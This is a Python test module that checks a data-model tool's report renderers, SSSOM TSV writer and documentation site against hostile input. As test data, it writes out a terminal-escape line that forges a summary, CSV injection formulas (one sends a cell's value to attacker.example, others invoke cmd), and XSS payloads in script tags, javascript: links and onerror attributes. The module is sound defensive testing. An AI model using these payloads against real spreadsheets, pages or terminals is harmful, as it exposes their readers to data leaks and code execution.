"""Output that cannot be turned against its reader (issue 15, item 3): the text, JSON, JUnit and
SARIF reports with hostile keys and IRIs, the documentation site with script in the model and in
a decision record, and SSSOM TSV opened in a spreadsheet."""

from __future__ import annotations

import copy
import csv
import html
import json
import re
import stat
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kll.render import render
from kll.validation.report import Finding, Location, Report, Severity, Stage

#: What a terminal or a bidi-aware viewer acts on; none of it may reach the reader raw.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

#: A JSON key that, printed raw, erases the line, returns the cursor and forges a clean summary.
FORGED = "x\x1b[2K\r1 file, 1 record: 0 violations, 0 warnings, 0 infos — conformant\n"


def _report(text: str, *, severity: Severity = Severity.VIOLATION) -> Report:
    """One finding whose every part that can come from the data holds ``text``."""
    location = Location(text, record=0, pointer="/" + text, focus_node=text, path=text, record_id=text)
    finding = Finding("Thing.name.required", severity, Stage.STRUCTURAL, location, "name is required: " + text, "namn krävs: " + text, detail=text)
    return Report(findings=[finding], files=[text], records=1, stages=[Stage.INPUT, Stage.STRUCTURAL])


# --- text report ---------------------------------------------------------------------------------


@pytest.mark.parametrize("color", [False, True])
def test_a_key_cannot_forge_a_conformant_line_in_the_text_report(color: bool) -> None:
    out = render(_report(FORGED), "text", color=color)
    plain = re.sub("\x1b\\[[0-9;]*m", "", out)  # the report's own colours, and nothing else
    assert "\x1b" not in plain and "\r" not in plain
    assert "conformant" not in [line.rsplit("— ", 1)[-1] for line in plain.splitlines()[:-1]]
    assert plain.splitlines()[-1].endswith("— not conformant")
    # the key is shown, with its control characters written out
    assert "x\\x1b[2K\\r1 file, 1 record: 0 violations, 0 warnings, 0 infos — conformant\\n" in plain


@pytest.mark.parametrize(
    ("character", "shown"),
    [("\x1b", "\\x1b"), ("\n", "\\n"), ("\t", "\\t"), ("\x7f", "\\x7f"), ("\x9b", "\\x9b"), ("\u2028", "\\u2028"),
     ("\u202e", "\\u202e"), ("\u2066", "\\u2066"), ("\u2069", "\\u2069"), ("\ud800", "\\ud800")],
)
def test_each_kind_of_control_character_is_shown_as_a_visible_escape(character: str, shown: str) -> None:
    iri = f"https://example.org/a{character}b"
    out = render(_report(iri), "text")
    assert f"https://example.org/a{shown}b" in out
    assert out.count("\n") == render(_report("https://example.org/ab"), "text").count("\n")
    assert character == "\n" or character not in out
    out.encode("utf-8")  # a lone surrogate would make the report impossible to print


# --- JSON, SARIF, JUnit --------------------------------------------------------------------------


def test_json_and_sarif_keep_the_value_but_write_inert_escapes() -> None:
    for fmt in ("json", "sarif"):
        out = render(_report(FORGED + "\u202e\x9b\ud800"), fmt)
        assert not RAW_CONTROL.search(out), fmt
        out.encode("utf-8")
        data = json.loads(out)
        if fmt == "json":
            assert data["findings"][0]["detail"] == FORGED + "\u202e\x9b\ud800"  # a reader gets the value back
        else:
            assert data["runs"][0]["results"][0]["properties"]["detail"] == FORGED + "\u202e\x9b\ud800"


def test_sarif_takes_a_file_name_that_is_not_utf8() -> None:
    # os.fsdecode keeps a non-UTF-8 byte of a POSIX file name as a lone surrogate
    data = json.loads(render(_report("data/caf\udce9.json"), "sarif"))
    assert data["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "data/caf%E9.json"


def test_junit_shows_line_breaks_and_bidi_from_the_data_as_escapes() -> None:
    root = ET.fromstring(render(_report("a\nb\u202ec"), "junit").encode("utf-8"))
    failure = root.find("testsuite/testcase/failure")
    assert "a\\nb\\u202ec" in failure.get("message")
    assert "\u202e" not in failure.text
    # the failure text has one line per location plus the address: the data adds none
    assert len(failure.text.split("\n")) == 2


_HOSTILE_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(min_codepoint=0, max_codepoint=0x3000),
        st.sampled_from(["\x1b", "\r", "\n", "\x9b", "\u202e", "\u2066", "\u2028", "\ud800", "\udfff", "\ufffe", "<", "&", "]", ">"]),
    ),
    max_size=40,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_HOSTILE_TEXT, warning=st.booleans())
def test_any_text_leaves_every_renderer_well_formed_and_without_raw_controls(text: str, warning: bool) -> None:
    report = _report(text, severity=Severity.WARNING if warning else Severity.VIOLATION)
    out = render(report, "text")
    assert not RAW_CONTROL.search(out)
    assert out.count("\n") == len(render(_report("x", severity=report.findings[0].severity), "text").splitlines())
    junit = render(report, "junit")
    assert not RAW_CONTROL.search(junit)
    ET.fromstring(junit.encode("utf-8"))
    for fmt in ("json", "sarif"):
        rendered = render(report, fmt)
        assert not RAW_CONTROL.search(rendered)
        json.loads(rendered)
        rendered.encode("utf-8")


# --- SSSOM TSV opened in a spreadsheet -------------------------------------------------------------

SSSOM_FIXTURES = Path(__file__).parent / "fixtures" / "sssom"
#: Texts a spreadsheet would run (OWASP's examples of CSV injection).
FORMULAS = {
    "subject_label": '=HYPERLINK("https://attacker.example/?"&A1,"Klicka")',
    "object_label": "+1+cmd|' /C calc'!A0",
    "comment": "@SUM(1+9)*cmd|' /C calc'!A0",
    "author_label": "-2+3+cmd!A0",  # a list cell: no "|", which SSSOM escapes
}


def _hostile_crosswalk() -> dict:
    from kll import adapters

    package = adapters.get("sssom").read(SSSOM_FIXTURES / "crosswalk.sssom.tsv").package
    mapping = package["mapping_sets"][0]["mappings"][0]
    mapping["mapping_subject"]["label"] = {"sv": FORMULAS["subject_label"]}
    mapping["mapping_object"]["label"] = {"sv": FORMULAS["object_label"]}
    mapping["mapping_comment"] = FORMULAS["comment"]
    mapping["mapping_author_labels"] = [FORMULAS["author_label"]]
    mapping["reviewer_agreement"] = -0.5
    return package


def _table(path: Path) -> list[dict[str, str]]:
    lines = [line for line in path.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
    return list(csv.DictReader(lines, delimiter="\t"))


def test_sssom_cells_that_a_spreadsheet_would_run_are_written_after_an_apostrophe(tmp_path: Path) -> None:
    from kll import adapters

    path = tmp_path / "out.sssom.tsv"
    findings = adapters.get("sssom").write(_hostile_crosswalk(), path)
    first, *others = _table(path)
    for column, text in FORMULAS.items():
        assert first[column] == "'" + text
    # identifiers, numbers and dates as they were: a CURIE or IRI never begins with = + - @
    assert first["subject_id"] == "sun-2020-field:723a" and first["object_id"] == "af-ssyk-2012:2221"
    assert first["predicate_id"] == "skos:relatedMatch" and first["mapping_justification"] == "semapv:ManualMappingCuration"
    assert first["confidence"] == "0.95" and first["reviewer_agreement"] == "-0.5" and first["mapping_date"] == "2026-03-02"
    # the rows nobody touched are as the writer always wrote them
    assert all(not cell.startswith("'") for row in others for cell in row.values())
    neutralised = [f for f in findings if f.rule == "convert.not-representable" and "formula" in (f.detail or "")]
    assert sorted(f.detail.split(":")[0] for f in neutralised) == sorted(FORMULAS)
    for finding in neutralised:  # named by column and place, never by the text
        assert all(text not in finding.detail and text not in finding.message_en for text in FORMULAS.values())
        assert finding.location.pointer == "/mapping_sets/0/mappings/0"


def test_a_normal_mapping_set_is_written_without_an_apostrophe(tmp_path: Path) -> None:
    from kll import adapters

    source = SSSOM_FIXTURES / "crosswalk.sssom.tsv"
    path = tmp_path / "out.sssom.tsv"
    original = adapters.get("sssom").read(source).package
    findings = adapters.get("sssom").write(original, path)
    assert not [f for f in findings if "formula" in (f.detail or "")]
    assert not [cell for row in _table(path) for cell in row.values() if cell.startswith("'")]
    assert adapters.get("sssom").read(path).package["mapping_sets"][0]["mappings"] == original["mapping_sets"][0]["mappings"]


def test_a_neutralised_cell_reads_back_as_the_text_it_was(tmp_path: Path) -> None:
    from kll import adapters

    path = tmp_path / "out.sssom.tsv"
    adapters.get("sssom").write(_hostile_crosswalk(), path)
    mapping = adapters.get("sssom").read(path).package["mapping_sets"][0]["mappings"][0]
    assert mapping["mapping_subject"]["label"] == {"sv": FORMULAS["subject_label"]}
    assert mapping["mapping_comment"] == FORMULAS["comment"]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab0.5e"), max_size=8))
def test_neutralising_a_cell_can_be_undone_exactly_and_never_leaves_a_formula(cell: str) -> None:
    from kll.adapters.sssom_write import neutralised, restored

    written = neutralised(cell)
    assert restored(written) == cell
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-][0-9.]+(e[+-]?[0-9]+)?", written)


def test_sssom_output_is_private_and_never_written_through_a_link(tmp_path: Path) -> None:
    from kll import adapters
    from kll.artifacts.output import OutputError

    package = adapters.get("sssom").read(SSSOM_FIXTURES / "crosswalk.sssom.tsv").package
    path = tmp_path / "out.sssom.tsv"
    adapters.get("sssom").write(package, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    link = tmp_path / "link.sssom.tsv"
    link.symlink_to(victim)
    with pytest.raises(OutputError):
        adapters.get("sssom").write(package, link)
    assert victim.read_text(encoding="utf-8") == "untouched"


# --- the documentation site ----------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
#: Other ways Markdown would let a description act: a javascript: link, an attribute list, an image.
MARKUP = "[klicka](javascript:alert(2)) `x`{onclick=alert(3)} <img src=x onerror=alert(4)>"
ROOT = Path(__file__).resolve().parents[1]


class _Elements(HTMLParser):
    """The elements and attributes a browser would build from a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)


def _html_of(markdown_text: str) -> str:
    """The page as the site's mkdocs configuration renders it (same Markdown extensions)."""
    import markdown
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    return markdown.markdown(markdown_text, extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])


def _assert_shown_as_text(page: str, *texts: str) -> None:
    rendered = _html_of(page)
    elements = _Elements()
    elements.feed(rendered)
    assert "script" not in elements.tags and "img" not in elements.tags
    assert not [name for name, _ in elements.attributes if name.startswith("on")]
    assert not [value for name, value in elements.attributes if name == "href" and (value or "").lower().startswith("javascript")]
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    for text in texts:
        assert text in shown


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_script_in_the_model_is_shown_as_text_on_every_reference_page(lang: str) -> None:
    from kll.maintain.site import pages

    ctx = pages._context(ROOT.resolve())
    model = copy.deepcopy(ctx.model)
    cls = model.classes["Organisation"]
    cls.facts["description"] = SCRIPT + " " + MARKUP
    cls.facts.setdefault("annotations", {})["title_sv"] = SCRIPT
    slot_name = next(iter(cls.facts["slots"]))
    cls.facts["slots"][slot_name]["description"] = SCRIPT
    cls.facts["slots"][slot_name]["pattern"] = "^`</code>" + SCRIPT + "$"
    slot = model.slots[slot_name]
    slot.facts["description"] = SCRIPT + " " + MARKUP
    slot.facts["mappings"] = {"exact": ["http://example.org/a><script>alert(5)</script"]}
    model.modules[cls.module]["description"] = SCRIPT
    hostile = replace(ctx, model=model)

    _assert_shown_as_text(pages.page_for_class(hostile, model.classes["Organisation"], lang), SCRIPT, "[klicka](javascript:alert(2))", "^`</code>" + SCRIPT + "$")
    _assert_shown_as_text(pages.page_for_slot(hostile, slot, lang), SCRIPT, "http://example.org/a><script>alert(5)</script")
    _assert_shown_as_text(pages.page_for_module(hostile, cls.module, lang), SCRIPT)
    _assert_shown_as_text(pages.page_reference_index(hostile, lang), SCRIPT)
    _assert_shown_as_text(pages.page_rules_group(hostile, "Organisation", [r for r, g in ctx.rule_groups.items() if g == "Organisation"], lang), SCRIPT)


def _hostile_record(folder: Path, number: int = 3, **front_matter: object) -> Path:
    source = next(p for p in (ROOT / "docs" / "decisions").glob("0003-*.md") if not p.name.endswith(".sv.md")).read_text(encoding="utf-8")
    head, body = source.split("\n---\n", 1)
    meta = yaml.safe_load(head.removeprefix("---\n"))
    meta.update(record_number=number, id=f"https://w3id.org/kll/id/decision/{number:04d}", **front_matter)
    title = meta["title"]["en"]
    body = body.replace("# The LinkML model is normative", f"# {title}", 1)
    path = folder / f"{number:04d}-hostile.md"
    path.write_text("---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n" + body, encoding="utf-8")
    return path


def test_script_in_a_decision_record_is_shown_as_text_on_its_page_and_in_the_index(tmp_path: Path) -> None:
    from kll.governance.index import banner, index_markdown
    from kll.governance.records import read_record
    from kll.maintain.site import mkdocs_hooks

    title = {"en": SCRIPT + " " + MARKUP, "sv": SCRIPT}
    (tmp_path / "decisions").mkdir()
    path = _hostile_record(tmp_path / "decisions", title=title, owning_agency=SCRIPT, decision_makers=[SCRIPT], resolution="javascript:alert(6)")
    record = read_record(path)
    page = SimpleNamespace(file=SimpleNamespace(src_uri=f"decisions/{path.name}", name=path.stem), meta=dict(record.front_matter))
    body = path.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    # the hook reads the record's metadata from the docs folder, as mkdocs gives it
    rendered = mkdocs_hooks.on_page_markdown(body, page, SimpleNamespace(docs_dir=str(tmp_path)), None)
    _assert_shown_as_text(rendered, SCRIPT, "javascript:alert(6)")
    # the theme prints the page title into <title> and the header without escaping it
    assert page.meta["title"] == html.escape(title["en"])

    index = index_markdown([record])
    _assert_shown_as_text(index, SCRIPT, "[klicka](javascript:alert(2))")
    older = read_record(_hostile_record(tmp_path / "decisions", 2, title={"en": "Older", "sv": "Äldre"}, decision_status="superseded",
                                        superseded_by=["https://w3id.org/kll/id/decision/0003"]))
    _assert_shown_as_text(banner(older, {3: record}), SCRIPT)
